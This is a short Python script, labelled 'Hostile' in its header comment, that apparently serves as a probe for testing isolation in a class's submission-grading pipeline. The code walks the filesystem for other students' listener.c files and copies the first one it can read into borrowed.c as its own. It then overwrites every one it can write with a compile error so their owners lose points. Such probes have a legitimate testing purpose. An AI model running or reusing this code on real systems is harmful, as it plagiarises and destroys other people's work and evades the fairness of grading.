# Hostile: looks through every directory it may read for another
# submission's listener.c (one under a class's submissions/, as a class
# pipeline's checkout has them). The first it can read becomes ./borrowed.c
# (which listener.c includes); every one it can write is rewritten so that
# it no longer compiles, to cost its owner the points. Says what it did,
# and fails when it did nothing, so that make fails as the build would.
import os
import sys

SKIP = {"/proc", "/sys", "/dev", "/usr", "/etc", "/boot", "/run", "/bin", "/sbin",
        "/lib", "/lib32", "/lib64", "/libx32"}
here = os.path.realpath(".")
borrowed = rewritten = 0
seen = 0
for top, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if os.path.join(top, d) not in SKIP]
    seen += 1
    if seen > 100_000 or top.count("/") > 12:
        dirs[:] = []
    if ("listener.c" not in files or "/submissions/" not in top + "/"
            or os.path.realpath(top).startswith(here)):
        continue
    path = os.path.join(top, "listener.c")
    try:
        with open(path, "rb") as f:
            text = f.read()
    except OSError:
        continue
    if b"SIGUSR1" not in text:
        continue
    if not borrowed:
        with open("borrowed.c", "wb") as f:
            f.write(text)
        borrowed = 1
        print(f"probe: borrowed {path}")
    try:
        with open(path, "w") as f:
            f.write("#error rewritten by a sibling\n")
        rewritten += 1
        print(f"probe: rewrote {path}")
    except OSError:
        pass
print(f"probe: searched {seen} directories, borrowed {borrowed}, rewrote {rewritten}")
sys.exit(0 if borrowed else 1)
